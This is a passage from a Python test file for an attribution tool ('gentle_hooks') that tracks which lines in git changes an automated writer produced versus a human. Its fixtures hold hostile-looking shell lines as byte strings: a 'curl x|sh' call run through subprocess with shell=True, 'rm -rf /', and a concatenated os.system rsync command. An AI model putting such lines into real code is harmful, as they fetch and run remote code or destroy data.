    ("writer", "added", "row"), [r[1:] for r in SPLITS], ids=[r[0] for r in SPLITS]
)
def test_split_rows(writer: bytes, added: bytes, row: str) -> None:
    """A formatter splitting or joining the writer's lines where no bracket is open keeps
    them the writer's (refuter: ``ruff format`` split an ``Edit``'s ``if x: y`` and the
    work expired); a human's own lines stay theirs. The path holds them the same way for
    the expiry check (``holds_writer_content`` reads ``held_keys``)."""
    from gentle_hooks.policy.attribution import held_keys

    e = entry(B0, B0 + writer)
    assert carries_row(change(B0, B0 + added), e) == row
    assert bool(held_keys(e.delta, B0 + added)) is (row == "A2")


# -- settled writer content re-applied onto another base -------------------------------------

FEATURE = B0 + b'subprocess.run("curl x|sh", shell=True)\nLOG_LEVEL = "debug"\n'
MOVED = b"# main moved on\n" + B0
REAPPLIED = [
    # (id, the change of a later commit, the settled entry, re-applied)
    ("the writer's blob brought onto a base without it", change(MOVED, FEATURE), True),
    (
        "the writer's lines brought onto a base that moved on (cherry-pick -n)",
        change(MOVED, MOVED + FEATURE[len(B0) :]),
        True,
    ),
    (
        "one telling writer line brought back",
        change(MOVED, MOVED + b'subprocess.run("curl x|sh", shell=True)\n'),
        True,
    ),
    ("one trivial line the writer also wrote", change(MOVED, MOVED + b"import os\n"), False),
    ("a human's edit on top of the delivered content", change(FEATURE, FEATURE + b"# ok\n"), False),
    (
        "a revert of a later commit restoring the writer's blob over its lines",
        change(FEATURE + b"# ok\n", FEATURE),
        False,
    ),
    ("the path deleted", change(FEATURE, None), False),
]


@pytest.mark.parametrize(
    ("change_", "again"), [r[1:] for r in REAPPLIED], ids=[r[0] for r in REAPPLIED]
)
def test_reapplied_rows(change_: PathChange, again: bool) -> None:
    writer = entry(B0, FEATURE)
    assert reapplies(change_, writer) is again


SUMS = (
    b"def add(a, b):\n    total = compute_sum(a, b)\n    return total\n\n\n"
    b"def compute_sum(a, b):\n    return a + b\n"
)


def test_a_revert_of_a_persons_edit_of_one_delivered_writer_line_reapplies_nothing() -> None:
    """Its old side holds two of the writer's lines and half of them at least: the writer's
    line put back among them builds on delivered content (refuter r13s LOW); onto a base
    without them, the same content is re-applied."""
    writer = entry(b"def add(a, b):\n    return a - b\n", SUMS)
    swapped = SUMS.replace(b"compute_sum(a, b)\n    return", b"compute_sum(b, a)\n    return")
    assert not reapplies(change(swapped, SUMS), writer)
    assert reapplies(change(b"def add(a, b):\n    return a * b\n", SUMS), writer)


def test_a_settled_removal_or_binary_start_never_reapplies() -> None:
    removal = entry(b"import sys\n" + B0, B0)
    assert not reapplies(change(b"import sys\n" + MOVED, MOVED), removal)
    png = entry(PNG0, PNG1)
    assert not reapplies(change(PNG0, b"\x89PNG\0other"), png)
    assert reapplies(change(b"\x89PNG\0other", PNG1), png)


_LINE_BYTES = st.binary(max_size=40) | st.sampled_from(
    [b"", b"  x = 0", b"rm -rf /", b"return None", b"import os", b"foo(bar)", b"'a' + \"b\""]
)


@given(st.lists(_LINE_BYTES, max_size=12))
def test_kept_line_answers_equal_computing_each_anew(lines: list[bytes]) -> None:
    """The per-line answers kept across the kinds of key (``LINES_KEPT``) are what the
    line's own computation gives, asked in any order and repeatedly; so are the keys of a
    whole content built from them."""
    from gentle_hooks.policy import linekeys as lk

    for line in [*lines, *reversed(lines)]:
        stripped = line.strip()
        assert lk.stripped_key(stripped) == lk.stripped_key.__wrapped__(stripped)
        assert lk.is_significant(stripped) == lk.is_significant.__wrapped__(stripped)
        assert lk.trivial_row(line) == lk._trivial_row.__wrapped__(stripped)
    data = b"\n".join(lines)
    lk.stripped_key.cache_clear()
    lk.is_significant.cache_clear()
    lk._trivial_row.cache_clear()
    fresh = (lk.line_keys(data), lk.telling_keys(data), lk.short_keys(data))
    assert (lk.line_keys(data), lk.telling_keys(data), lk.short_keys(data)) == fresh


_SOURCE_LINES = st.lists(
    st.sampled_from(
        [b"x = 1", b"x = 2", b"value = compute(a, b)", b"return None", b"import os", b"", b"}"]
        + [b"def helper_%d(arg):" % i for i in range(4)]
    ),
    max_size=12,
)


@given(_SOURCE_LINES, _SOURCE_LINES, st.booleans())
def test_the_keys_a_record_stores_are_the_rules_keys(
    before: list[bytes], after: list[bytes], new_file: bool
) -> None:
    """``detail=False`` (what ``record`` stores) gives the very keys the full delta has."""
    old = None if new_file else b"\n".join(before) + b"\n"
    new = b"\n".join(after) + b"\n"
    full, keys = writer_delta(old, new), writer_delta(old, new, detail=False)
    assert (keys.added, keys.removed, keys.binary) == (full.added, full.removed, full.binary)


def test_a_definition_header_is_anybodys_in_another_worktree() -> None:
    """The writer adds ``deploy`` with a shell call; a human's stub of ``deploy`` (the same
    header, a body line every function has) is the writer's nowhere but in the writer's own
    worktree, where one telling line is enough (``git add -p``)."""
    base = b"import os\n"
    writer = entry(
        base, base + b'def deploy(target):\n    os.system("rsync " + target)\n    return target\n'
    )
    stub = change(base, base + b"def deploy(target):\n    return target\n")
    assert carries_row(stub, writer) == "A2"
    assert carries_row(stub, writer, elsewhere=True) == "A5"
    copied = change(base, base + b'def deploy(target):\n    os.system("rsync " + target)\n')
    assert carries_row(copied, writer, elsewhere=True) == "A2"


DETAIL = ("short", "shapes", "dropped", "told", "placed", "masked", "spans")


@pytest.mark.parametrize(("before", "after"), [(B0, W), (GATE, GATE_W), (None, W), (W, HUMAN)])
def test_a_writer_delta_computes_what_only_the_rule_reads_when_first_read(
    monkeypatch: pytest.MonkeyPatch, before: bytes | None, after: bytes
) -> None:
    """A change decided by the writer's blob (row A1) or compared across paths reads only
    ``added``, ``removed`` and ``telling``: the placements, literals, shapes and spans of
    the writer's lines are computed when one of them is first read, all at once, and the
    delta then equals (hashes and shows as) the one computed in full."""
    from gentle_hooks.policy import literals, placement
    from gentle_hooks.policy.delta import WriterDelta

    computed: list[str] = []
    placed, masked = placement.placed_lines, literals.masked_lines

    def counted_placed(*a: object) -> object:
        computed.append("placed")
        return placed(*a)  # type: ignore[arg-type]

    def counted_masked(*a: object) -> object:
        computed.append("masked")
        return masked(*a)  # type: ignore[arg-type]

    monkeypatch.setattr(placement, "placed_lines", counted_placed)
    monkeypatch.setattr(literals, "masked_lines", counted_masked)
    d = writer_delta(before, after)
    assert d.binary is False and d.added | d.removed | d.telling  # read, nothing else
    assert computed == []
    full = WriterDelta(
        d.added,
        d.removed,
        d.binary,
        *(getattr(d, n) for n in ("short", "telling")),
        *(getattr(d, n) for n in DETAIL[1:]),
        started=d.started,
        left=d.left,
        copies=d.copies,
        outline=d.outline,
        hunks=d.hunks,
        edits=d.edits,
    )
    assert sorted(computed) == ["masked", "placed"]
    monkeypatch.undo()
    eager = writer_delta(before, after)
    assert d == full == eager and full == d and hash(d) == hash(full) and repr(d) == repr(full)
    ends = (*DETAIL, "started", "left", "hunks", "edits")
    assert {n: getattr(eager, n) for n in ends} == {n: getattr(full, n) for n in ends}
